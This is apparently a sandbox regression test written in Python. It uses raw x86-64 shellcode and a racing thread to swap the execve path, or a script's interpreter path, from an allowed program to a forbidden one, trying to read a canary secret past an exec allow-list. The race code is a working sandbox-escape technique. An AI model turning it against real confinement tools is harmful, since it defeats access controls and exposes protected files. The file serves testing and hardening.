# SPDX-License-Identifier: Apache-2.0
# tries: exchange the path that the kernel gets for a program of the scratch view
# proof: printed
# options: --allow-read=@CANARY@,/usr/bin/cat,/usr/bin/true --scratch --allow-exec=@WORK@/allow,@WORK@/allow.sh
# expect: execve exec allow * @WORK@/allow
# expect: execve exec allow * @WORK@/allow.sh
#
# What lies in the layer is run by its path there, which the tracer puts below the caller's stack: a
# thread that shares the memory writes another one over it, of a program that may not run.  The
# same for the interpreter of a script.

import ctypes
import mmap
import os
import shutil
import threading
import time

SECONDS = 1.5
REST = b'@CANARY@/secret'

# void flip(text, a, b, size, stop): now one, now the other, until *stop is set
FLIP = bytes.fromhex('4989f9 4989ca'         # mov r9, rdi; mov r10, rcx
                     '4c89cf 4c89d1 f3a4'    # mov rdi, r9; mov rcx, r10; rep movsb
                     '4c29d6 4887f2'         # sub rsi, r10; xchg rsi, rdx
                     'b964000000 f390 e2fc'  # mov ecx, 100; pause; loop
                     '41833800 74e3 c3')     # cmp dword [r8], 0; je to the second line; ret
# int spawn(path, argv, envp, 0, stack): vfork; on that stack execve, exit
SPAWN = bytes.fromhex('b83a000000 0f05 85c0 7401 c3'
                      '4c89c4 b83b000000 0f05  31ff b8e7000000 0f05')
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page[:len(FLIP)], page[1024:1024 + len(SPAWN)] = FLIP, SPAWN
at = ctypes.addressof(ctypes.c_char.from_buffer(page))
flip = ctypes.CFUNCTYPE(None, ctypes.c_void_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_size_t,
                        ctypes.c_void_p)(at)
spawn = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p,
                         ctypes.c_int, ctypes.c_void_p)(at + 1024)

stack = ctypes.create_string_buffer(65536)
top = ctypes.addressof(stack) + 65536 & ~15

shutil.copy('/usr/bin/true', '@WORK@/allow')
shutil.copy('/usr/bin/cat', '@WORK@/other')
for name, text in ('allow.sh', '#!@WORK@/allow\n'), ('other.sh', '#!@WORK@/other\n'):
    with open('@WORK@/' + name, 'w') as f:
        f.write(text)
    os.chmod('@WORK@/' + name, 0o755)

# Where it lies, as the kernel says.
with open('@WORK@/other', 'rb') as f, mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ):
    with open('/proc/self/maps') as maps:
        layer = next(line.split(None, 5)[5] for line in maps if '@WORK@/other' in line)
layer = layer[:layer.index('@WORK@')].encode()

def race(path, place, allowed, refused):
    """Without a layer it is the path itself that is exchanged."""
    text = ctypes.create_string_buffer(path)
    place = place if layer else ctypes.addressof(text)
    argv = (ctypes.c_char_p * 3)(b'cat', REST, None)
    stop = ctypes.c_int(0)
    thread = threading.Thread(target=flip, args=(place, allowed, refused, len(allowed),
                                                 ctypes.addressof(stop)))
    thread.start()
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        pid = spawn(ctypes.addressof(text), argv, None, 0, top)
        if pid > 0:
            os.waitpid(pid, 0)
    stop.value = 1
    thread.join()

path = layer + b'@WORK@/allow'
race(b'@WORK@/allow', top - 128 - len(path) - 1 & ~15, path, layer + b'@WORK@/other')
# Below it: argv (the program's name, the script's, REST, NULL), then the path of the program.
words = 4 * 8
texts = path + b'\0@WORK@/allow\0@WORK@/allow.sh\0'
place = (top - 128 - words - len(texts) & ~15) + words
race(b'@WORK@/allow.sh', place, path, layer + b'@WORK@/other')
